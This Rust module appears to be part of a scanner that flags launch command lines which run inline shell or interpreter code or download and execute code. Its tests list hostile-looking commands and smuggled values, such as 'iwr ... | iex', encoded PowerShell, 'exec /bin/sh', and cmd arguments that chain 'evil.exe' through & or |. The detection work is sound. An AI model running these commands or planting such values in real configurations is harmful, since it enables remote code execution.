//! Shells and interpreters that get their code as an argument, wherever in the line they stand.

mod harmless;
mod interpreter;
mod plain;

use super::{Judge, Words};
use crate::launch::line::{COMMANDS, Line, Step, is_plain_code, power, shell_code};

/// Code on a command line.
pub(super) struct Inline {
    /// The argument it begins in.
    pub(super) argument: usize,
    /// The last argument that is part of it.
    pub(super) end: usize,
    program: String,
    code: String,
}

impl Judge<'_> {
    /// Shells and interpreters that get their code as an argument.
    pub(super) fn inline(&mut self, words: &Words<'_>) {
        if words.line.is_deep() {
            let message = self.says(" is started through more programs than anybody reads: each only starts the next");
            self.on("shell-wrapper-launch", words, None, message);
        } else if words.cut && !is_told(&words.line, &words.inline) {
            let (commands, packages) = (COMMANDS, crate::launch::source::MOST);
            let message = self.says(match words.line.is_cut() {
                true => format!(
                    " runs more commands than the {commands} that are looked at, or code that cannot be read to its end"
                ),
                false => format!(" fetches more packages than the {packages} that are looked at"),
            });
            self.on("shell-wrapper-launch", words, None, message);
        }
        // the innermost says it best
        let runs = words.inline.iter().rev().find(|i| super::fetch::executes(&i.program, &i.code));
        if let Some(found) = runs {
            let message = self.says(" downloads code and runs it at every start");
            self.at("fetch-and-execute-launch", words, found.argument, message);
        } else if let Some(found) = words.inline.first() {
            let message = self.says(" is started through a shell or inline code");
            self.at("shell-wrapper-launch", words, found.argument, message);
        }
    }
}

/// Whether what cannot be read to its end is told as inline code.
fn is_told(line: &Line<'_>, inline: &[Inline]) -> bool {
    line.is_cut() && line.commands().len() < COMMANDS && !inline.is_empty()
}

/// All code on the line, from the outside in, then that of the commands in it.
pub(super) fn all(line: &Line<'_>) -> Vec<Inline> {
    let mut out = Vec::new();
    for line in std::iter::once(line).chain(line.commands()) {
        let steps: Vec<Step<'_>> = line.steps().collect();
        for (i, step) in steps.iter().enumerate() {
            let program = step.program();
            let name = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
            let args = step.texts();
            let Some((from, to, code)) = code(name, &args, steps.get(i + 1)) else { continue };
            let (Some(argument), Some(end)) = (step.args[from].argument, step.args[to].argument) else { continue };
            let program = if power::is_shell(name) { "powershell" } else { name };
            out.push(Inline { argument, end: end.max(argument), program: program.to_owned(), code });
        }
        for word in line.handed() {
            let Some(argument) = word.argument else { continue };
            out.push(Inline { argument, end: argument, program: "sh".to_owned(), code: word.text.to_string() });
        }
    }
    out
}

/// First and last argument of code, and the code.
fn code(name: &str, args: &[&str], next: Option<&Step<'_>>) -> Option<(usize, usize, String)> {
    let one = |at: usize| (at, at, args[at].to_owned());
    let rest = |at: usize| (at, args.len() - 1, args[at..].join(" "));
    if let Some(at) = shell_code(name, args) {
        // one plain program is what would be started without it, too; its own code is found in its own step
        return match name {
            "cmd" if next.is_some_and(|n| plain::is_plain(n, &args[at..])) => None,
            "cmd" => Some(rest(at)),
            _ if next.is_some() && is_plain_code(name, args, at) => None,
            _ => Some(one(at)),
        };
    }
    match name {
        // it has a step behind it where it only starts that
        _ if power::is_shell(name) => power::code(args).filter(|_| next.is_none()).map(rest),
        "npx" | "npm" | "pnpm" | "pnpx" => call(args).map(|(at, code)| (at, at, code.to_owned())),
        _ => interpreter::code(name, args).map(|(at, code)| (at, at, code.to_owned())),
    }
}

/// `--call=LINE` of a package runner, before the package.
fn call<'a>(args: &[&'a str]) -> Option<(usize, &'a str)> {
    let found = args.iter().position(|a| a.starts_with("--call="))?;
    let before = args[..found].iter().filter(|a| !a.starts_with('-') && !["exec", "x"].contains(a)).count();
    (before == 0).then(|| (found, &args[found]["--call=".len()..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(words: &[&str]) -> Option<usize> {
        all(&Line::of(words[0], &words[1..])).first().map(|i| i.argument)
    }

    #[test]
    fn code_is_told_once_and_commands_that_are_left_out_always() {
        let many = "x; ".repeat(2 * COMMANDS);
        for (args, told) in [(["-c", "iex $env:X"], true), (["-c", &*many], false)] {
            let line = Line::of("powershell", &args);
            assert!(line.is_cut());
            assert_eq!(is_told(&line, &all(&line)), told, "{args:?}");
        }
    }

    #[test]
    fn code_is_found_behind_wrappers_and_in_every_spelling() {
        let fetch = "fetch('https://a.test')";
        for (words, at) in [
            (vec!["env", "bash", "-c", "x; y"], 2),
            (vec!["/usr/bin/env", "-S", "bash -c $x"], 1),
            (vec!["busybox", "sh", "-c", "x; y"], 2),
            (vec!["timeout", "5", "bash", "-ceu", "x; y"], 3),
            (vec!["nohup", "bash", "-o", "pipefail", "-c", "x; y"], 4),
            (vec!["docker", "run", "-i", "acme/x", "sh", "-c", "x; y"], 5),
            (vec!["docker", "run", "--entrypoint", "sh", "acme/x", "-c", "x; y"], 5),
            (vec!["node", "--eval=fetch('https://a.test')"], 0),
            (vec!["node", "--import", "data:text/javascript,fetch('https://a.test')", "x.js"], 1),
            (vec!["node", "-r", "./x.js", "-pe", fetch], 3),
            (vec!["deno", "eval", fetch], 1),
            (vec!["python3.12", "-uc", "import urllib.request"], 1),
            (vec!["uv", "run", "python", "-c", "import urllib.request"], 3),
            (vec!["osascript", "-e", "do shell script \"id\""], 1),
            (vec!["ruby", "-ropen-uri", "-e", "require 'open-uri'"], 2),
            (vec!["perl", "-MLWP::Simple", "-e", "getstore('a', 'b')"], 2),
            (vec!["pwsh", "-NoProfile", "-enc", "SQBFAFgA"], 2),
            (vec!["pwsh-preview", "irm", "x", "|iex"], 0),
            (vec!["elixir", "-e", "System.cmd(\"id\", [])"], 1),
            (vec!["erl", "-noshell", "-eval", "os:cmd(\"id\")."], 2),
            (vec!["emacs", "--batch", "--eval=(shell-command \"id\")"], 1),
            (vec!["bb", "(shell \"id\")"], 0),
            (vec!["raku", "-erun \"id\""], 0),
            (vec!["deno", "repl", "--eval", "Deno.run({})"], 2),
            (vec!["dotnet", "script", "eval", "`x`"], 2),
            (vec!["nix", "eval", "--impure", "--expr", "builtins.exec [\"id\"]"], 3),
            (vec!["nu", "-e", "^id"], 1),
            (vec!["fish", "--init-command=curl x | source"], 0),
            (vec!["perl", "-MA;unlink(1)", "x.pl"], 0),
            (vec!["node", "--import=DATA:text/javascript,eval(x)", "x.js"], 0),
            (vec!["tmux", "new", "-d", "sh -c id; x"], 2),
            (vec!["concurrently", "npx -y a", "npx -y b", "bash -c 'x; y'"], 2),
            (vec!["strace", "sh", "-c", "npx x", "sh", "-c", "x; y"], 5),
            (vec!["powershell", "-ExecutionPolicy", "Bypass", "-Com", "a; b"], 3),
            (vec!["powershell", "iwr https://a.test | iex"], 0),
            (vec!["powershell", "-c", "npx -y x@1.0.0; calc"], 1),
            (vec!["powershell", "-c", "node -e 'require(\"child_process\")'"], 1),
            (vec!["powershell", "-c", "python -c import(os)"], 1),
            (vec!["cmd", "/s", "/c", "type x & calc"], 2),
            (vec!["cmd", "/c", "start", "/b", "x.exe"], 1),
            (vec!["cmd", "/c", "^n^o^d^e", "x.js"], 1),
            (vec!["cmd", "/c", "npx", "-y", "x", "&&", "calc"], 1),
            (vec!["cmd", "/c", "%X%"], 1),
            (vec!["cmd", "/c", "npx", "%X%"], 1),
            (vec!["cmd", "/c", "foo", "a&evil.exe"], 1),
            (vec!["cmd", "/c", "foo", "a|evil.exe"], 1),
            (vec!["cmd", "/c", "foo", "\"a\"&evil.exe"], 1),
            (vec!["cmd", "/c", "foo", "a\r\nevil.exe"], 1),
            (vec!["cmd", "/c", "foo", ">x.bat"], 1),
            (vec!["cmd", "/c", ";start evil.exe"], 1),
            (vec!["cmd", "/c", ";start", "evil.exe"], 1),
            (vec!["cmd", "/c", "@start", "evil.exe"], 1),
            (vec!["cmd", "/c", ",=start", "evil.exe"], 1),
            (vec!["cmd", "/c", "(start", "evil.exe)"], 1),
            (vec!["cmd", "/c", "start;evil.exe"], 1),
            (vec!["cmd", "/c", "start/b", "evil.exe"], 1),
            (vec!["cmd", "/c", "X=1", "node"], 1),
            (vec!["cmd", "/c", "npx", "-y", "x@1.0.0", "https://a.test/?a=1&b=2"], 1),
            (vec!["npm", "exec", "--call=x"], 1),
            (vec!["perl", "-e", "exec '/bin/sh'"], 1),
            (vec!["ruby", "-e", "`id`"], 1),
            (vec!["php", "-r", "passthru('id');"], 1),
            (vec!["node", "-p", "process.binding('spawn_sync')"], 1),
            (vec!["nodemon", "--exec", "a && b", "s.js"], 1),
            (vec!["npx", "-p", "x", "-c", "x && y"], 3),
            (vec!["nix-shell", "-p", "nodejs", "--run", "x && y"], 3),
            (vec!["flock", "/srv/lock", "-c", "x && y"], 2),
            (vec!["bash", "-eo", "pipefail", "-c", "x && y"], 3),
            (vec!["bash", "-euo", "pipefail", "-c", "x && y"], 3),
            (vec!["bash", "-ceuo", "pipefail", "x && y"], 2),
            (vec!["bash", "--rcfile", "./x", "-ic", "npx -y x@1.0.0"], 3),
            (vec!["fish", "-C", "x", "-c", "npx -y x@1.0.0"], 1),
            (vec!["bash", "-lc", "FOO=1 npx -y x@1.0.0"], 1),
            (vec!["bash", "-lc", "npx -y x@$V"], 1),
            (vec!["bash", "-lc", "eval x"], 1),
            (vec!["nu", "-c", "npx -y x@1.0.0"], 1),
            (vec!["xonsh", "-c", "npx -y x@1.0.0"], 1),
            (vec!["su", "-", "me", "-c", "x; y"], 3),
        ] {
            assert_eq!(of(&words), Some(at), "{words:?}");
        }
    }

    #[test]
    fn scripts_shims_and_options_of_others_are_no_inline_code() {
        for words in [
            vec!["bash", "scripts/start.sh", "-c", "config.json"],
            vec!["npx", "-y", "@acme/x@1.0.0", "-c", "config.json"],
            vec!["npm", "exec", "acme", "-c", "config.json"],
            vec!["cmd", "/c", "npx", "-y", "x@1.0.0"],
            vec!["cmd", "/c", "npx -y x@1.0.0"],
            vec!["powershell", "-NoProfile", "-Command", "npx -y x@1.0.0"],
            vec!["powershell.exe", "-c", "npx", "-y", "@acme/x@1.0.0"],
            vec!["cmd", "/c", "conda", "run", "-n", "x", "python", "server.py"],
            vec!["cmd", "/c", "C:\\srv\\start.bat"],
            vec!["cmd", "/c", "npx", "-y", "x@1.0.0", "https://a.test/?a=1"],
            vec!["cmd", "/c", "C:\\Program Files (x86)\\acme\\x.exe", "--a=b;c"],
            vec!["cmd", "/c", "npx", "-y", "@acme/files@^1.2.0", "%USERPROFILE%\\Documents"],
            vec!["cmd", "/c", "start.bat"],
            vec!["cmd", "/c", "npx", "-y", "@acme/files@1.0.0", "%userprofile%\\Documents", "%LocalAppData%\\x"],
            vec!["bash", "-lc", "npx -y x@1.2.3"],
            vec!["zsh", "-l", "-c", "exec npx -y x@1.2.3 --root ~/work"],
            vec!["sh", "-c", "uvx acme==1.0 --log \"$HOME/x.log\""],
            vec!["bash", "-euo", "pipefail", "-c", "node dist/index.js"],
            vec!["fish", "-lc", "node dist/index.js"],
            vec!["docker", "run", "-i", "acme/x", "sh", "-c", "node server.js"],
            vec!["nix-shell", "-p", "nodejs", "--run", "node server.js"],
            vec!["nodemon", "--exec", "tsx", "src/index.ts"],
            vec!["npx", "-p", "x@1.0.0", "-c", "x --stdio"],
            vec!["node", "server.js", "-e", "https://a.test"],
            vec!["node", "-e", "require('./server').start()"],
            vec![
                "node",
                "--import",
                "data:text/javascript,import { register } from 'node:module'; register('ts-node/esm');",
                "x.ts",
            ],
            vec!["node", "--import", "tsx", "server.ts"],
            vec!["python3", "-m", "acme", "-c", "http://a.test"],
            vec!["python", "-c", "from server import main; main()"],
            vec!["php", "-c", "http.ini", "server.php"],
            vec!["pwsh", "-NoLogo", "-File", "start.ps1", "-Command", "x"],
            vec!["powershell", "start.ps1"],
            vec!["docker", "run", "-i", "acme/x", "node", "server.js"],
            vec!["env", "NODE_ENV=production", "node", "server.js"],
            vec!["uv", "run", "server.py", "-c", "x"],
        ] {
            assert_eq!(of(&words), None, "{words:?}");
        }
    }
}
